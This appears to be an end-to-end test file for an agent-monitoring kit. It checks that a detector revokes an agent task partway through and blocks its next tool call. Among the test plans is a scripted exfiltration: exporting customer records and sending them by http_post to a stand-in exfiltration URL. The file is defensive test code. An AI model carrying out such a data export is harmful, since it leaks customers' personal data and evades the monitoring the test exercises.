/**
 * The TypeScript agent kit as its users get it: built (`npm run kits:build`), packed (`npm pack`), installed from the
 * tarball into a fresh folder outside the repository (`npm install <tgz>`, the npm cache reused), and used from there
 * by a plain-JavaScript agent (test/agents/typescript/kit-agent.mjs) that imports `@tripline/agent` by name, against
 * Tripline started as `npm start` does.
 *
 * - the package holds built JavaScript and declarations only, and imports nothing outside itself but node:
 *   built-ins and the packages it declares;
 * - its three entry points load in plain Node, and its declarations type-check a TypeScript agent;
 * - 25 benign warm-up tasks run untouched and the type reaches its baseline; then, among benign tasks, a novel-tool
 *   exfiltration (export the customers, `http_post` to a host the type never saw) that keeps calling tools: the
 *   detector revokes it, its next tool call throws TaskRevokedError without the tool running, and no benign task is
 *   refused or revoked.
 */
import { execFile } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative, resolve, sep } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_AGENT_TOKEN, TEST_AUTH_ENV, adminHeaders } from '../helpers/auth.ts';
import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, rng, taskView } from '../helpers/agent-plans.ts';
import type { BaselineView, Call, PlannedTask } from '../helpers/agent-plans.ts';
import { startTriplineProcess } from '../helpers/tripline-process.ts';
import type { TriplineProcess } from '../helpers/tripline-process.ts';
import { waitFor } from '../helpers/wait.ts';

const run = promisify(execFile);
const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const KIT = join(ROOT, 'kits/typescript');
const AGENT = join(ROOT, 'test/agents/typescript/kit-agent.mjs');
const TSC = join(ROOT, 'node_modules/typescript/bin/tsc');

const WARMUP_TASKS = 20;
const WARMUP_RUN = 25;
const TASK_TYPE = 'refund_typescript_kit';
const AGENT_ID = 'refund-agent-ts-kit';

type Label = 'benign' | 'exfiltration';
interface KitPlannedTask extends PlannedTask<Label> {
  taskId: string;
  persist?: boolean;
}
/** One line of the agent's stdout. */
interface Outcome {
  label: Label;
  taskId: string;
  attempted: number;
  ran: number;
  refused: { operation: string; revocationId: string; reason: string } | null;
}
interface PackResult {
  filename: string;
  size: number;
  unpackedSize: number;
  files: { path: string }[];
}
interface KitManifest {
  name: string;
  version: string;
  exports: Record<string, string | Record<string, string>>;
  dependencies?: Record<string, string>;
  peerDependencies?: Record<string, string>;
}

async function sh(command: string, args: string[], cwd: string, timeout = 180_000): Promise<string> {
  try {
    const { stdout } = await run(command, args, { cwd, timeout, maxBuffer: 16 * 1024 * 1024 });
    return stdout;
  } catch (error) {
    const failure = error as { stderr?: string; stdout?: string; message: string };
    throw new Error(`${command} ${args.join(' ')} failed: ${failure.message}\n${failure.stderr ?? ''}`, {
      cause: error,
    });
  }
}

function filesUnder(folder: string): string[] {
  return readdirSync(folder, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

/** The module specifiers a built file imports (static, dynamic, re-exports, side-effect imports, require). */
function specifiersOf(source: string): string[] {
  const patterns = [
    /\b(?:import|export)\s[^'"`;]*?\bfrom\s*['"]([^'"]+)['"]/g,
    /\bimport\s*\(\s*['"]([^'"]+)['"]\s*\)/g,
    /^\s*import\s*['"]([^'"]+)['"]/gm,
    /\brequire\s*\(\s*['"]([^'"]+)['"]\s*\)/g,
  ];
  return patterns.flatMap((pattern) => [...source.matchAll(pattern)].map((match) => match[1] ?? ''));
}

const packageName = (specifier: string): string =>
  specifier
    .split('/')
    .slice(0, specifier.startsWith('@') ? 2 : 1)
    .join('/');

describe('the TypeScript kit installed from its tarball (@tripline/agent)', () => {
  const work = mkdtempSync(join(tmpdir(), 'tripline-e2e-ts-kit-'));
  const app = join(work, 'agent-app');
  const dataDir = join(work, 'data');
  const runId = Date.now().toString(36);
  let pack: PackResult;
  let tripline: TriplineProcess | undefined;

  beforeAll(async () => {
    await sh('npm', ['run', '--silent', 'kits:build'], ROOT);
    const packed = JSON.parse(await sh('npm', ['pack', '--json', '--pack-destination', work], KIT)) as PackResult[];
    pack = packed[0] as PackResult;
    // A fresh project of the user's, outside the repository: nothing of the repository's node_modules resolves.
    mkdirSync(app);
    writeFileSync(join(app, 'package.json'), JSON.stringify({ name: 'agent-app', private: true, type: 'module' }));
    await sh(
      'npm',
      ['install', '--prefer-offline', '--no-audit', '--no-fund', '--loglevel=error', join(work, pack.filename)],
      app,
      300_000,
    );
    copyFileSync(AGENT, join(app, 'agent.mjs'));
    tripline = await startTriplineProcess({
      ...TEST_AUTH_ENV,
      TRIPLINE_DATA_DIR: dataDir,
      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
      LOG_LEVEL: 'warn',
    });
  }, 10 * 60_000);

  afterAll(async () => {
    await tripline?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  const installed = (): string => join(app, 'node_modules/@tripline/agent');
  const manifest = (): KitManifest =>
    JSON.parse(readFileSync(join(installed(), 'package.json'), 'utf8')) as KitManifest;

  it('holds built JavaScript and declarations only, importing nothing outside itself but what it declares', () => {
    console.log(
      `@tripline/agent tarball: ${String(pack.size)} bytes, ${String(pack.unpackedSize)} unpacked, ${String(pack.files.length)} files`,
    );
    const paths = pack.files.map((file) => file.path);
    expect(paths).toContain('dist/index.js');
    expect(paths).toContain('README.md');
    for (const path of paths) {
      expect(path === 'package.json' || path === 'README.md' || /^dist\/.+\.(js|d\.ts)$/.test(path), path).toBe(true);
    }

    const { dependencies = {}, peerDependencies = {}, exports } = manifest();
    const declared = new Set([...Object.keys(dependencies), ...Object.keys(peerDependencies)]);
    const root = installed();
    const files = filesUnder(root).filter((file) => file.endsWith('.js') || file.endsWith('.d.ts'));
    expect(files.length).toBe(pack.files.length - 2);
    for (const file of files) {
      for (const specifier of specifiersOf(readFileSync(file, 'utf8'))) {
        const where = `${relative(root, file)} imports '${specifier}'`;
        if (specifier.startsWith('.')) {
          const target = resolve(dirname(file), specifier);
          expect(target.startsWith(root + sep), where).toBe(true);
          // Declarations name their siblings by the source's extension; TypeScript reads the .d.ts beside them.
          const candidates = [target, target.replace(/\.(ts|js)$/, '.d.ts')];
          expect(
            candidates.some((candidate) => existsSync(candidate)),
            where,
          ).toBe(true);
        } else if (!specifier.startsWith('node:')) {
          expect(declared.has(packageName(specifier)), where).toBe(true);
        }
      }
    }
    for (const target of Object.values(exports).flatMap((entry) =>
      typeof entry === 'string' ? [entry] : Object.values(entry),
    )) {
      expect(existsSync(join(root, target)), target).toBe(true);
    }
  });

  it('loads by name in plain Node: the kit, its MCP guard (without the MCP SDK installed) and its conventions', async () => {
    const script = [
      "const kit = await import('@tripline/agent');",
      "const mcp = await import('@tripline/agent/mcp');",
      "const conventions = await import('@tripline/agent/conventions');",
      'console.log(JSON.stringify({ kit: Object.keys(kit).sort(), mcp: Object.keys(mcp).sort(), contract: kit.CONTRACT_VERSION, version: kit.KIT_VERSION, taskId: conventions.AGENT_ATTR.taskId }));',
    ].join('\n');
    const loaded = JSON.parse(await sh(process.execPath, ['--input-type=module', '-e', script], app)) as Record<
      string,
      unknown
    >;
    expect(existsSync(join(app, 'node_modules/@modelcontextprotocol'))).toBe(false);
    expect(loaded).toEqual({
      kit: [
        'ApprovalDeniedError',
        'ApprovalError',
        'ApprovalExpiredError',
        'ApprovalPendingError',
        'ApprovalTimeoutError',
        'CONTRACT_VERSION',
        'CallDeniedError',
        'KIT_VERSION',
        'TaskDeniedError',
        'TaskRefusedError',
        'TaskRevokedError',
        'TriplineUnavailableError',
        'startTelemetry',
      ],
      mcp: ['TOKEN_META_KEY', 'guardMcpClient'],
      contract: '1',
      version: manifest().version,
      taskId: 'tripline.task.id',
    });
  });

  it('type-checks a TypeScript agent against its declarations', async () => {
    writeFileSync(
      join(app, 'typed-agent.ts'),
      [
        "import { startTelemetry, TaskRevokedError } from '@tripline/agent';",
        "import type { TaskHandle, Telemetry } from '@tripline/agent';",
        "import { AGENT_ATTR } from '@tripline/agent/conventions';",
        "const telemetry: Telemetry = startTelemetry({ endpoint: 'http://localhost:4318', apiUrl: 'http://localhost:8080', agentId: 'a' });",
        "export const total: Promise<number> = telemetry.task('customer_refund', (task: TaskHandle) =>",
        "  task.toolCall('get_order', { sideEffect: 'read', attributes: { [AGENT_ATTR.toolCallArguments]: '{}' } }, () => 42),",
        ');',
        'export const refused = (error: unknown): string | undefined => (error instanceof TaskRevokedError ? error.revocationId : undefined);',
      ].join('\n'),
    );
    writeFileSync(
      join(app, 'tsconfig.json'),
      JSON.stringify({
        compilerOptions: {
          target: 'es2022',
          module: 'nodenext',
          strict: true,
          noEmit: true,
          skipLibCheck: false,
          typeRoots: [join(ROOT, 'node_modules/@types')],
          types: ['node'],
        },
        files: ['typed-agent.ts'],
      }),
    );
    await sh(process.execPath, [TSC, '-p', 'tsconfig.json'], app);
  });

  describe('an agent protected by the installed package', () => {
    const next = rng(4242);
    let counter = 0;
    const planned = (label: Label, calls: Call[], persist = false): KitPlannedTask => ({
      label,
      taskType: TASK_TYPE,
      taskId: `${TASK_TYPE}-${label}-${String(++counter)}-${runId}`,
      calls,
      ...(persist ? { persist } : {}),
    });

    async function runAgent(name: string, plan: KitPlannedTask[]): Promise<Outcome[]> {
      const planFile = join(work, `${name}.json`);
      writeFileSync(planFile, JSON.stringify(plan));
      if (tripline === undefined) throw new Error('Tripline did not start');
      const { stdout } = await run(process.execPath, ['agent.mjs', planFile], {
        cwd: app,
        timeout: 180_000,
        env: {
          ...process.env,
          TRIPLINE_OTLP_URL: tripline.otlpUrl,
          TRIPLINE_API_URL: tripline.apiUrl,
          TRIPLINE_AGENT_TOKEN: TEST_AGENT_TOKEN,
          AGENT_ID,
        },
      }).catch((error: unknown) => {
        const failure = error as { stderr?: string; message: string };
        throw new Error(`the agent failed: ${failure.message}\n${failure.stderr ?? ''}`, { cause: error });
      });
      const outcomes = stdout
        .split('\n')
        .filter((line) => line.startsWith('{'))
        .map((line) => JSON.parse(line) as Outcome);
      expect(outcomes.map((outcome) => outcome.taskId)).toEqual(plan.map((task) => task.taskId));
      return outcomes;
    }

    function expectUntouched(outcomes: Outcome[]): void {
      for (const outcome of outcomes.filter((entry) => entry.label === 'benign')) {
        expect(outcome, outcome.taskId).toMatchObject({ refused: null });
        expect(outcome.ran, outcome.taskId).toBe(outcome.attempted);
      }
    }

    it(
      `runs ${String(WARMUP_RUN)} benign warm-up tasks untouched and the type reaches its baseline`,
      async () => {
        const outcomes = await runAgent(
          'warmup',
          Array.from({ length: WARMUP_RUN }, () => planned('benign', benignCalls(next))),
        );
        expectUntouched(outcomes);
        const api = tripline?.apiUrl ?? '';
        let last: BaselineView | undefined;
        await waitFor(
          `the baseline of ${TASK_TYPE} to be learned from ${String(WARMUP_TASKS)} tasks`,
          async () => {
            last = await baselineView(api, TASK_TYPE);
            return last !== undefined && last.tasks >= WARMUP_TASKS;
          },
          VERDICT_MS,
          250,
        );
        expect(last?.regime).toBe('type_baseline');
      },
      5 * 60_000,
    );

    it(
      'refuses the next tool call of the task the detector revoked, without running it; benign tasks untouched',
      async () => {
        const exfiltration: Call[] = [
          { tool: 'get_order', args: { order_id: 'ord-17' } },
          { tool: 'export_customers', args: { limit: 50 } },
          { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example' } },
        ];
        const plan = Array.from({ length: 6 }, () => planned('benign', benignCalls(next)));
        plan.splice(3, 0, planned('exfiltration', exfiltration, true));
        const outcomes = await runAgent('mixed', plan);
        expectUntouched(outcomes);

        const rogue = outcomes.find((outcome) => outcome.label === 'exfiltration');
        expect(rogue?.refused, 'the exfiltration was never refused').not.toBeNull();
        console.log(
          `exfiltration refused at call ${String(rogue?.attempted)} (${String(rogue?.ran)} ran): ${rogue?.refused?.reason ?? ''}`,
        );
        // Every call before the refusal ran; the refused one did not.
        expect(rogue?.ran).toBe((rogue?.attempted ?? 0) - 1);
        expect(rogue?.attempted).toBeGreaterThan(exfiltration.length);
        expect(rogue?.refused?.operation).toBe('execute_tool get_order');

        const api = tripline?.apiUrl ?? '';
        const response = await fetch(`${api}/v1/revocations?agent_id=${AGENT_ID}`, { headers: adminHeaders });
        const { items } = (await response.json()) as {
          items: { id: string; taskId: string; source: string; action: string }[];
        };
        expect(items).toEqual([
          expect.objectContaining({
            id: rogue?.refused?.revocationId,
            taskId: rogue?.taskId,
            source: 'detector',
            action: 'revoke',
          }),
        ]);
        expect((await taskView(api, rogue?.taskId ?? ''))?.status).toBe('revoked');
        for (const benign of outcomes.filter((outcome) => outcome.label === 'benign')) {
          const view = await waitFor(`benign task ${benign.taskId} to be known`, () => taskView(api, benign.taskId));
          expect(view.status, benign.taskId).not.toBe('revoked');
        }
      },
      5 * 60_000,
    );
  });
});
